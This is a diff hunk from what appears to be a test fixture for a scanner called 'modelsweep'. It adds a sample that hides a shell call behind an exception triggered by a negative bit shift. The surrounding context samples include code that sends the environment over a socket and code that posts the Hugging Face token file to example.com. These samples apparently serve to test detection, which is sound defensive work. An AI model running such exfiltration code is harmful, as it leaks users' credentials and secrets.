@@ -473,6 +473,14 @@ s.sendall(str(dict(os.environ)).encode())
     "token_of_hub": """import os, requests
 requests.post('https://example.com/', data=open(os.path.expanduser('~/.cache/huggingface/token')).read())
 """,
+    "behind_a_negative_shift": """import os
+def f(n):
+    return 1 >> n
+try:
+    f(-1)
+except ValueError:
+    os.system('echo modelsweep-test')
+""",
     "hook_of_paths": """import os, sys
 def hook(p):
     os.system('echo modelsweep-test')
